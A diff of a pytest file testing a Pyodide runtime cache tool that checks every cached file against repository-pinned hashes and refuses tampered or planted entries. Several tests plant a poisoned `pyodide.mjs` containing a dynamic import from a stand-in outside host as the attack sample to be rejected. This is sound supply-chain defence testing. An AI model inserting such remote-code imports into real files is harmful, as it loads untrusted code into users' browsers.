@@ -1,11 +1,32 @@
-"""The Workbench's runtime cache (tools/fetch_pyodide.py): old entries do not pile up."""
+"""The Workbench's runtime cache (tools/fetch_pyodide.py): every file checked against the
+pins kept in the repository, never against anything the cache says of itself; a missing
+file is taken again, a changed or planted one refused by name; old entries do not pile up.
 
+The tests pin a small stand-in package of their own (no network), with the same code."""
+
+import base64
+import gzip
+import hashlib
 import importlib.util
+import io
+import json
 import os
+import subprocess
+import sys
+import tarfile
 import time
 from pathlib import Path
 
+import pytest
+
 ROOT = Path(__file__).resolve().parent.parent
+FILES = {
+    "pyodide.mjs": b"export const loadPyodide = () => 'stand-in';\n" * 40,
+    "pyodide.asm.mjs": b"// the runtime's JavaScript\n" * 200,
+    "pyodide.asm.wasm": bytes(range(256)) * 64,
+    "pyodide.asm.data": os.urandom(4096),  # as incompressible as a zip
+    "pyodide-lock.json": b'{"info": {"arch": "wasm32", "version": "0"}, "packages": {}}',
+}
 
 
 def _fetch_pyodide():
@@ -15,28 +36,145 @@ def _fetch_pyodide():
     return module
 
 
+def _tarball() -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+        for name, data in FILES.items():
+            info = tarfile.TarInfo(f"package/{name}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+@pytest.fixture
+def fetch(tmp_path, monkeypatch):
+    """The module pinned to the stand-in package, whose tarball the cache has downloaded."""
+    module = _fetch_pyodide()
+    tarball = _tarball()
+    pins = {name: hashlib.sha256(data).hexdigest() for name, data in FILES.items()}
+    monkeypatch.setattr(module, "RUNTIME", pins)
+    monkeypatch.setattr(module, "SERVED", sorted(set(FILES) - {module.LOCK}))
+    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
+    monkeypatch.setattr(module, "INTEGRITY", integrity)
+    (tmp_path / "downloads").mkdir()
+    (tmp_path / "downloads" / f"pyodide-{module.PYODIDE}.tgz").write_bytes(tarball)
+    module.tarball_bytes = tarball
+    return module
+
+
+def test_an_entry_is_made_from_the_checked_tarball_with_its_twins(fetch, tmp_path):
+    entry = fetch.third_party(tmp_path)
+    for name, data in FILES.items():
+        assert (entry / name).read_bytes() == data
+    wasm = FILES["pyodide.asm.wasm"]
+    assert gzip.decompress((entry / "pyodide.asm.wasm.gz").read_bytes()) == wasm
+    assert (entry / "pyodide.asm.wasm.br").exists()
+    assert not (entry / "pyodide.asm.data.gz").exists()  # a twin only where it saves bytes
+    assert not (entry / "pyodide-lock.json.gz").exists()  # never served: the page gets ours
+
+
+def test_a_missing_file_is_taken_again_from_the_tarball(fetch, tmp_path):
+    entry = fetch.third_party(tmp_path)
+    (entry / "pyodide.asm.wasm").unlink()
+    assert fetch.third_party(tmp_path) == entry
+    assert (entry / "pyodide.asm.wasm").read_bytes() == FILES["pyodide.asm.wasm"]
+
+
+@pytest.mark.parametrize("name", ["pyodide.mjs", "pyodide.asm.wasm.gz", "pyodide.mjs.br"])
+def test_a_changed_file_is_refused_by_name(fetch, tmp_path, name):
+    entry = fetch.third_party(tmp_path)
+    poisoned = b"import('https://elsewhere.example/x.mjs')"
+    if name.endswith(".gz"):
+        poisoned = gzip.compress(poisoned)  # a valid encoding of other bytes
+    (entry / name).write_bytes(poisoned)
+    with pytest.raises(fetch.CacheError, match=rf"{name} differs from its pin"):
+        fetch.third_party(tmp_path)
+
+
+def test_a_planted_entry_is_refused(fetch, tmp_path):
+    """An entry made by someone else: a `pyodide.mjs` that calls another host and a
+    manifest vouching for it (what the cache once trusted)."""
+    entry = tmp_path / fetch.cache_key()
+    entry.mkdir()
+    mjs = b"import('https://elsewhere.example/x.mjs')"
+    (entry / "pyodide.mjs").write_bytes(mjs)
+    with pytest.raises(fetch.CacheError, match="pyodide.mjs differs from its pin"):
+        fetch.third_party(tmp_path)
+    (entry / "pyodide.mjs").unlink()
+    vouching = {"pyodide.mjs": hashlib.sha256(mjs).hexdigest()}
+    (entry / "manifest.json").write_text(json.dumps(vouching))
+    with pytest.raises(fetch.CacheError, match="manifest.json is not a file of the pins"):
+        fetch.third_party(tmp_path)
+
+
+def test_a_wrong_tarball_is_downloaded_again_and_a_wrong_download_refused(
+    fetch, tmp_path, monkeypatch
+):
+    tarball = tmp_path / "downloads" / f"pyodide-{fetch.PYODIDE}.tgz"
+    tarball.write_bytes(b"not the package")
+    served = [fetch.tarball_bytes]
+    monkeypatch.setattr(fetch.urllib.request, "urlopen", lambda url, timeout: io.BytesIO(served[0]))
+    fetch.third_party(tmp_path)
+    assert tarball.read_bytes() == fetch.tarball_bytes
+    tarball.unlink()
+    (tmp_path / fetch.cache_key() / "pyodide.mjs").unlink()
+    served[0] = b"a tampered package"
+    with pytest.raises(fetch.CacheError, match="is not the pinned package"):
+        fetch.third_party(tmp_path)
+    assert not tarball.exists()
+
+
+def test_lay_out_copies_the_runtime_and_writes_a_lock_of_our_wheel(fetch, tmp_path):
+    dest = tmp_path / "site" / "pyodide"
+    names = {path.name for path in fetch.lay_out(dest, tmp_path)}
+    assert {"pyodide.mjs", "pyodide.asm.wasm.br", "python_stdlib.zip", "pyodide-lock.json"} <= names
+    assert (dest / "python_stdlib.zip").read_bytes() == fetch.STDLIB.read_bytes()
+    assert any(name.startswith("rulesref-") and name.endswith(".whl") for name in names)
+    lock = (dest / "pyodide-lock.json").read_text()
+    assert '"rulesref"' in lock and '"arch": "wasm32"' in lock
+    assert "used" not in names
+
+
+def test_a_changed_standard_library_is_refused(fetch, tmp_path, monkeypatch):
+    monkeypatch.setattr(fetch, "STDLIB_SHA256", "0" * 64)
+    with pytest.raises(fetch.CacheError, match="python_stdlib.zip differs from its pin"):
+        fetch.lay_out(tmp_path / "site", tmp_path)
+
+
+def test_the_command_refuses_a_poisoned_cache_in_one_line(tmp_path):
+    fetch = _fetch_pyodide()
+    entry = tmp_path / fetch.cache_key()
+    entry.mkdir()
+    (entry / "pyodide.mjs").write_text("import('https://elsewhere.example/x.mjs')")
+    run = subprocess.run(
+        [sys.executable, "tools/fetch_pyodide.py", "--cache", str(tmp_path), "--cache-only"],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+    )
+    assert run.returncode == 2
+    assert run.stderr.count("\n") == 1 and "Traceback" not in run.stderr
+    assert f"{entry / 'pyodide.mjs'} differs from its pin" in run.stderr
+
+
 def test_entries_unused_for_a_month_are_pruned_and_nothing_else(tmp_path):
     fetch = _fetch_pyodide()
     now = time.time()
     day = 24 * 3600
     for name, age in [("old-pins", fetch.STALE_DAYS + 1), ("recent-pins", fetch.STALE_DAYS - 1)]:
         (tmp_path / name).mkdir()
-        manifest = tmp_path / name / fetch.MANIFEST
-        manifest.write_text("{}")
-        os.utime(manifest, (now - age * day, now - age * day))
-    (tmp_path / "downloads").mkdir()  # the npm tarballs: no manifest, kept
-    (tmp_path / ".half-built").mkdir()  # a build in progress elsewhere: kept
+        mark = tmp_path / name / fetch.MARK
+        mark.write_text("")
+        os.utime(mark, (now - age * day, now - age * day))
+    (tmp_path / "downloads").mkdir()  # the npm tarballs: no mark, kept
     removed = fetch.prune(tmp_path, now)
     assert removed == [tmp_path / "old-pins"]
-    assert sorted(p.name for p in tmp_path.iterdir()) == [".half-built", "downloads", "recent-pins"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["downloads", "recent-pins"]
 
 
-def test_the_entry_in_use_is_marked_as_used(tmp_path):
-    fetch = _fetch_pyodide()
-    entry = tmp_path / fetch.cache_key()
-    entry.mkdir()
-    (entry / fetch.MANIFEST).write_text("{}")
+def test_the_entry_in_use_is_marked_as_used(fetch, tmp_path):
+    entry = fetch.third_party(tmp_path)
     long_ago = time.time() - 2 * fetch.STALE_DAYS * 24 * 3600
-    os.utime(entry / fetch.MANIFEST, (long_ago, long_ago))
+    os.utime(entry / fetch.MARK, (long_ago, long_ago))
     assert fetch.third_party(tmp_path) == entry
     assert not fetch.prune(tmp_path)
